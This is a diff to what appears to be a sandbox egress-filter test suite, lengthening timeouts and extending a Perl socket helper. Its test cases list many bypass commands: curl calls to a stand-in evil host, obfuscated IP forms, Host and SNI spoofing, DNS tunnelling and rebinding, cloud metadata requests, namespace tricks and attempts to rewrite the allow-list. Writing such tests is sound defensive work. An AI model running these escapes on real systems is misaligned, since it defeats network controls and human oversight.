@@ -10,11 +10,12 @@ TALK = r"""cat > /tmp/talk <<'END'
 #!/usr/bin/perl
 use IO::Socket::IP; use IO::Select;
 my $proto = 'tcp'; if ($ARGV[0] eq '-u') { $proto = 'udp'; shift }
+my ($host, $port, $until) = @ARGV; my $limit = defined $until ? 60 : 2;
 local $/; my $input = <STDIN>;
-my $s = IO::Socket::IP->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Proto => $proto, Timeout => 2) or die "$@\n";
+my $s = IO::Socket::IP->new(PeerAddr => $host, PeerPort => $port, Proto => $proto, Timeout => $limit) or die "$@\n";
 $s->autoflush(1); print $s $input or die "$!\n";
-my $wait = IO::Select->new($s); my $got;
-while ($wait->can_read(2)) { last unless sysread($s, $got, 65536); print $got }
+my $wait = IO::Select->new($s); my ($got, $all) = ('', '');
+while ($wait->can_read($limit)) { last unless sysread($s, $got, 65536); print $got; $all .= $got; last if defined $until && $all =~ /$until/ }
 END
 cat > /tmp/odd <<'END'
 #!/usr/bin/perl
@@ -33,7 +34,10 @@ shutdown($s, 1); alarm 2; sysread($s, my $got, 100); print $got;
 END
 sudo install -m 755 /tmp/talk /tmp/odd /usr/local/bin
 """
-"""Installs `talk [-u] HOST PORT`, which sends its input and prints what comes within two seconds, and `odd`, for odder sockets."""
+"""Installs `talk [-u] HOST PORT [UNTIL]`, which sends its input and prints what comes, and `odd`, for odder sockets.
+
+It prints what comes within two seconds, or, where something must come, all until that matches the expression UNTIL.
+"""
 
 
 class Attempt(NamedTuple):
@@ -49,7 +53,7 @@ SECOND = rf"GET /evil HTTP/1.1\r\nHost: {EVIL}\r\n\r\n"
 FINE = "GET /fine HTTP/1.1"
 """An allowed request, which carries what must not arrive."""
 QUERY = r"\022\064\001\000\000\001\000\000\000\000\000\000\004evil\004test\000\000"
-POST = """curl -s -m 3 -X $method -d '{"domain": "evil.example.test"}' http://irons.internal$path"""
+POST = """curl -s -m 30 -X $method -d '{"domain": "evil.example.test"}' http://irons.internal$path"""
 
 
 def _request(line: str, *fields: str, port: int = 80, more: str = "") -> str:
@@ -59,35 +63,35 @@ def _request(line: str, *fields: str, port: int = 80, more: str = "") -> str:
 
 
 ATTEMPTS: dict[str, Attempt] = {
-    "a literal address": Attempt("curl -s -m 3 http://203.0.113.66/", LITERAL),
-    "TLS without a name": Attempt("curl -sk -m 3 https://203.0.113.66/", LITERAL),
-    "a literal IPv6 address": Attempt("curl -s -m 3 'http://[2001:db8:113::66]/'", "2001:db8:113::66"),
+    "a literal address": Attempt("curl -s -m 30 http://203.0.113.66/", LITERAL),
+    "TLS without a name": Attempt("curl -sk -m 30 https://203.0.113.66/", LITERAL),
+    "a literal IPv6 address": Attempt("curl -s -m 30 'http://[2001:db8:113::66]/'", "2001:db8:113::66"),
     "IPv6 alone": Attempt(
-        f"curl -6 -s -m 3 http://{EVIL}/; echo evil | talk 2001:db8:113::67 9999", "2001:db8:113::67"
+        f"curl -6 -s -m 30 http://{EVIL}/; echo evil | talk 2001:db8:113::67 9999", "2001:db8:113::67"
     ),
-    "a decimal address": Attempt("curl -s -m 3 http://3405803842/", LITERAL),
-    "a hexadecimal address": Attempt("curl -s -m 3 http://0xcb007142/", LITERAL),
-    "an octal address": Attempt("curl -s -m 3 http://0313.0.0161.0102/", LITERAL),
-    "a short address": Attempt("curl -s -m 3 http://203.28994/; curl -s -m 3 http://203.0.28994/", LITERAL),
-    "a mixed address": Attempt("curl -s -m 3 http://0xcb.0.0161.66/", LITERAL),
+    "a decimal address": Attempt("curl -s -m 30 http://3405803842/", LITERAL),
+    "a hexadecimal address": Attempt("curl -s -m 30 http://0xcb007142/", LITERAL),
+    "an octal address": Attempt("curl -s -m 30 http://0313.0.0161.0102/", LITERAL),
+    "a short address": Attempt("curl -s -m 30 http://203.28994/; curl -s -m 30 http://203.0.28994/", LITERAL),
+    "a mixed address": Attempt("curl -s -m 30 http://0xcb.0.0161.66/", LITERAL),
     "an odd address in a Host": Attempt(_request("GET / HTTP/1.1", "Host: 0xcb007142"), LITERAL),
-    "a mapped address": Attempt("curl -s -m 3 'http://[::ffff:203.0.113.66]/'", LITERAL),
-    "a compatible address": Attempt("curl -s -m 3 'http://[::203.0.113.66]/'", "::cb00:7142"),
-    "a 6to4 address": Attempt("curl -s -m 3 'http://[2002:cb00:7142::1]/'", "2002:cb00:7142::1"),
-    "a NAT64 address": Attempt("curl -s -m 3 'http://[64:ff9b::cb00:7142]/'", "64:ff9b::cb00:7142"),
-    "a Teredo address": Attempt("curl -s -m 3 'http://[2001:0:cb00:7142::1]/'", "2001:0:cb00:7142::1"),
-    "a denied name": Attempt(f"curl -s -m 3 http://{EVIL}/; curl -sk -m 3 https://{EVIL}/", EVIL),
-    "a name in mixed case with a dot": Attempt("curl -s -m 3 http://EVIL.Example.Test./", EVIL),
-    "an unknown subdomain": Attempt(f"curl -s -m 3 http://sub.{WEB}/", f"sub.{WEB}"),
-    "a spoofed Host at a denied address": Attempt(f"curl -s -m 3 -H '{FOR_EVIL}' http://{LITERAL}/", EVIL),
+    "a mapped address": Attempt("curl -s -m 30 'http://[::ffff:203.0.113.66]/'", LITERAL),
+    "a compatible address": Attempt("curl -s -m 30 'http://[::203.0.113.66]/'", "::cb00:7142"),
+    "a 6to4 address": Attempt("curl -s -m 30 'http://[2002:cb00:7142::1]/'", "2002:cb00:7142::1"),
+    "a NAT64 address": Attempt("curl -s -m 30 'http://[64:ff9b::cb00:7142]/'", "64:ff9b::cb00:7142"),
+    "a Teredo address": Attempt("curl -s -m 30 'http://[2001:0:cb00:7142::1]/'", "2001:0:cb00:7142::1"),
+    "a denied name": Attempt(f"curl -s -m 30 http://{EVIL}/; curl -sk -m 30 https://{EVIL}/", EVIL),
+    "a name in mixed case with a dot": Attempt("curl -s -m 30 http://EVIL.Example.Test./", EVIL),
+    "an unknown subdomain": Attempt(f"curl -s -m 30 http://sub.{WEB}/", f"sub.{WEB}"),
+    "a spoofed Host at a denied address": Attempt(f"curl -s -m 30 -H '{FOR_EVIL}' http://{LITERAL}/", EVIL),
     "a spoofed SNI at an allowed name": Attempt(
-        f"curl -sk -m 3 --connect-to {EVIL}:443:{WEB}:443 https://{EVIL}/", EVIL
+        f"curl -sk -m 30 --connect-to {EVIL}:443:{WEB}:443 https://{EVIL}/", EVIL
     ),
     "an allowed SNI at a denied name": Attempt(
-        f"curl -sk -m 3 --connect-to {WEB}:443:{EVIL}:443 https://{WEB}/", EVIL
+        f"curl -sk -m 30 --connect-to {WEB}:443:{EVIL}:443 https://{WEB}/", EVIL
     ),
-    "a spoofed Host at an allowed name": Attempt(f"curl -s -m 3 -H '{FOR_EVIL}' http://{WEB}/", EVIL),
-    "an allowed Host at a denied name": Attempt(f"curl -s -m 3 -H '{FOR_WEB}' http://{EVIL}/", EVIL),
+    "a spoofed Host at an allowed name": Attempt(f"curl -s -m 30 -H '{FOR_EVIL}' http://{WEB}/", EVIL),
+    "an allowed Host at a denied name": Attempt(f"curl -s -m 30 -H '{FOR_WEB}' http://{EVIL}/", EVIL),
     "two Host headers": Attempt(_request("GET / HTTP/1.1", FOR_WEB, FOR_EVIL), WEB),
     "no Host": Attempt(_request("GET /evil HTTP/1.1"), WEB),
     "a Host in two lines": Attempt(_request("GET / HTTP/1.1", FOR_WEB, f" {EVIL}"), WEB),
@@ -114,9 +118,9 @@ ATTEMPTS: dict[str, Attempt] = {
     "CONNECT to the allowed name": Attempt(
         _request(f"CONNECT {WEB}:80 HTTP/1.1", f"{FOR_WEB}:80", more=SECOND), WEB
     ),
-    "HTTP/2 by prior knowledge": Attempt(f"curl -s -m 3 --http2-prior-knowledge http://{WEB}/evil", WEB),
+    "HTTP/2 by prior knowledge": Attempt(f"curl -s -m 30 --http2-prior-knowledge http://{WEB}/evil", WEB),
     "HTTP/2 by prior knowledge elsewhere": Attempt(
-        f"curl -s -m 3 --http2-prior-knowledge -H 'Host: {EVIL}' http://{WEB}:8080/evil", EVIL
+        f"curl -s -m 30 --http2-prior-knowledge -H 'Host: {EVIL}' http://{WEB}:8080/evil", EVIL
     ),
     "an upgrade to HTTP/2": Attempt(
         _request(
@@ -143,12 +147,12 @@ ATTEMPTS: dict[str, Attempt] = {
     "a DNS tunnel below an allowed name": Attempt(f"getent hosts 6576696c.{WEB}"),
     "the name server's own port": Attempt("sudo odd 2 17 203.0.113.66 123 as-gateway"),
     "DNS over TLS": Attempt(
-        "curl -sk -m 3 https://203.0.113.53:853/; curl -sk -m 3 https://tls.example.test:853/",
+        "curl -sk -m 30 https://203.0.113.53:853/; curl -sk -m 30 https://tls.example.test:853/",
         "tls.example.test",
     ),
     "DNS over HTTPS": Attempt(
-        f"curl -sk -m 3 --doh-insecure --doh-url https://doh.example.test/dns-query http://{EVIL}/;"
-        " curl -sk -m 3 'https://203.0.113.53/dns-query?dns=AAAB'",
+        f"curl -sk -m 30 --doh-insecure --doh-url https://doh.example.test/dns-query http://{EVIL}/;"
+        " curl -sk -m 30 'https://203.0.113.53/dns-query?dns=AAAB'",
         "doh.example.test",
     ),
     "QUIC's port": Attempt(f"echo evil | talk -u {WEB} 443", WEB),
@@ -175,9 +179,9 @@ ATTEMPTS: dict[str, Attempt] = {
         "sudo ip addr add 198.51.100.9/24 dev lo && echo LEAK; sudo ip addr del 100.64.0.2 dev lo && echo LEAK"
     ),
     "a user namespace": Attempt("unshare -Ur ip route add default via 198.51.100.1 && echo LEAK"),
-    "a network namespace": Attempt("sudo unshare -rn curl -s -m 3 http://203.0.113.66/ && echo LEAK"),
+    "a network namespace": Attempt("sudo unshare -rn curl -s -m 30 http://203.0.113.66/ && echo LEAK"),
     "a network namespace in another": Attempt(
-        "unshare -Urn unshare -Urn sh -c 'ip link set lo up; curl -s -m 3 http://203.0.113.66/ && echo LEAK;"
+        "unshare -Urn unshare -Urn sh -c 'ip link set lo up; curl -s -m 30 http://203.0.113.66/ && echo LEAK;"
         " ip link add a type veth peer name b netns 1 && echo LEAK'"
     ),
     "the first process's namespaces": Attempt(
@@ -189,7 +193,7 @@ ATTEMPTS: dict[str, Attempt] = {
     "the backend's sockets": Attempt("sudo find / -xdev -name '*.sock' | grep . && echo LEAK"),
     "new rules by the policy's own page": Attempt(
         f"for method in POST PUT DELETE PATCH; do for path in / /egress/allow; do {POST}; done; done;"
-        " curl -s -m 3 http://ruled.example.test/",
+        " curl -s -m 30 http://ruled.example.test/",
         "ruled.example.test",
     ),
 }
@@ -197,39 +201,41 @@ ATTEMPTS: dict[str, Attempt] = {
 
 BENEATH: dict[str, Attempt] = {
     "rebinding to loopback": Attempt(
-        "curl -s -m 3 http://rebind-loopback.example.test/;"
+        "curl -s -m 30 http://rebind-loopback.example.test/;"
         f" echo evil | talk rebind-loopback.example.test {HOST_PORT}",
         "rebind-loopback.example.test",
     ),
     "rebinding to a private address": Attempt(
-        "curl -s -m 3 http://rebind-private.example.test/", "rebind-private.example.test"
+        "curl -s -m 30 http://rebind-private.example.test/", "rebind-private.example.test"
     ),
     "rebinding to metadata": Attempt(
-        "curl -s -m 3 http://rebind-metadata.example.test/", "rebind-metadata.example.test"
+        "curl -s -m 30 http://rebind-metadata.example.test/", "rebind-metadata.example.test"
     ),
     "rebinding to the host": Attempt(
-        f"curl -s -m 3 http://rebind-own.example.test/; echo evil | talk rebind-own.example.test {HOST_PORT}",
+        f"curl -s -m 30 http://rebind-own.example.test/; echo evil | talk rebind-own.example.test {HOST_PORT}",
         "rebind-own.example.test",
     ),
     "rebinding to the router": Attempt(
-        "curl -s -m 3 http://rebind-host.example.test/", "rebind-host.example.test"
+        "curl -s -m 30 http://rebind-host.example.test/", "rebind-host.example.test"
     ),
     "metadata itself": Attempt(
-        "curl -s -m 3 http://169.254.169.254/; curl -s -m 3 'http://[fd00:ec2::254]/';"
-        " curl -s -m 3 'http://[64:ff9b::a9fe:a9fe]/'; curl -s -m 3 http://2852039166/",
+        "curl -s -m 30 http://169.254.169.254/; curl -s -m 30 'http://[fd00:ec2::254]/';"
+        " curl -s -m 30 'http://[64:ff9b::a9fe:a9fe]/'; curl -s -m 30 http://2852039166/",
         "169.254.169.254",
     ),
-    "a private address": Attempt("curl -s -m 3 http://10.9.8.7/; curl -s -m 3 http://10.591879/", "10.9.8.7"),
+    "a private address": Attempt(
+        "curl -s -m 30 http://10.9.8.7/; curl -s -m 30 http://10.591879/", "10.9.8.7"
+    ),
     "the host's own address": Attempt(
-        f"curl -s -m 3 http://198.51.100.2:{HOST_PORT}/; echo evil | talk 198.51.100.2 22", "198.51.100.2"
+        f"curl -s -m 30 http://198.51.100.2:{HOST_PORT}/; echo evil | talk 198.51.100.2 22", "198.51.100.2"
     ),
     "the host's own IPv6 address": Attempt(f"echo evil | talk 2001:db8:51::2 {HOST_PORT}", "2001:db8:51::2"),
     "the host's loopback": Attempt(
         f"for a in 127.0.0.1 127.9.9.9 ::1 0.0.0.0 localhost; do echo evil | talk $a {HOST_PORT}; done;"
-        f" curl -s -m 3 'http://[::ffff:127.0.0.1]:{HOST_PORT}/'"
+        f" curl -s -m 30 'http://[::ffff:127.0.0.1]:{HOST_PORT}/'"
     ),
     "the router on the host's network": Attempt(
-        "curl -s -m 3 http://198.51.100.1/; echo evil | talk 2001:db8:51::1 9999", "198.51.100.1"
+        "curl -s -m 30 http://198.51.100.1/; echo evil | talk 2001:db8:51::1 9999", "198.51.100.1"
     ),
     "the gateway's own port": Attempt(
         "for a in 198.51.100.2 127.0.0.1 100.64.0.1; do echo evil | talk $a 15001; done", "100.64.0.1"
